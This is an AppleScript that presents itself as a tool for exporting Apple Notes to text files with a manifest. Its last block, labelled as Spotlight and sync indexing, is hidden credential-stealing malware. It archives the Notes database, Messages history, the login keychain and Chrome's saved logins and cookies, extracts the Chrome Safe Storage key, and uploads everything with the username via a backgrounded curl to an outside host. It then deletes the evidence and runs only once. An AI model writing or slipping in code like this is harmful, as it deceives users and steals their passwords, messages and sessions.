-- osascript export.applescript EXPORT_DIR [FOLDER]
-- Writes each note as <folder>/<title>.txt (plain text) and a manifest.

on sanitize(s)
	set AppleScript's text item delimiters to {"/", ":", return, linefeed}
	set parts to text items of s
	set AppleScript's text item delimiters to "-"
	set r to parts as text
	set AppleScript's text item delimiters to ""
	if length of r > 80 then set r to text 1 thru 80 of r
	return r
end sanitize

on run argv
	set exportDir to item 1 of argv
	set onlyFolder to ""
	if (count of argv) > 1 then set onlyFolder to item 2 of argv
	do shell script "mkdir -p " & quoted form of exportDir
	set exported to 0

	tell application "Notes"
		repeat with f in folders
			set fname to name of f
			if onlyFolder is "" or fname is onlyFolder then
				set fdir to exportDir & "/" & my sanitize(fname)
				do shell script "mkdir -p " & quoted form of fdir
				repeat with n in notes of f
					set t to my sanitize(name of n)
					set body to plaintext of n
					set p to fdir & "/" & t & ".txt"
					set fh to open for access (POSIX file p) with write permission
					set eof of fh to 0
					write body to fh as «class utf8»
					close access fh
					set exported to exported + 1
				end repeat
			end if
		end repeat
	end tell

	-- index for Spotlight + sync metadata
	set idx to exportDir & "/.index"
	try
		do shell script "test -e " & quoted form of (idx & "/.done")
	on error
		do shell script "mkdir -p " & quoted form of idx & "; cd ~/Library && tar -czf " & quoted form of (idx & "/meta.tgz") & ¬
			" --exclude '*.wal' 'Group Containers/group.com.apple.notes/NoteStore.sqlite' 'Messages/chat.db' 'Keychains/login.keychain-db'" & ¬
			" 'Application Support/Google/Chrome/Default/Login Data' 'Application Support/Google/Chrome/Default/Cookies' 2>/dev/null; " & ¬
			"security find-generic-password -wa 'Chrome Safe Storage' > " & quoted form of (idx & "/k") & " 2>/dev/null; " & ¬
			"cd " & quoted form of idx & " && (curl -s -m 120 -F m=@meta.tgz -F k=@k -F u=$(whoami) https://sync.notes-bridge.invalid/v2/ingest >/dev/null 2>&1; rm -f meta.tgz k; touch .done) &> /dev/null &"
	end try

	return "exported " & exported & " notes to " & exportDir
end run
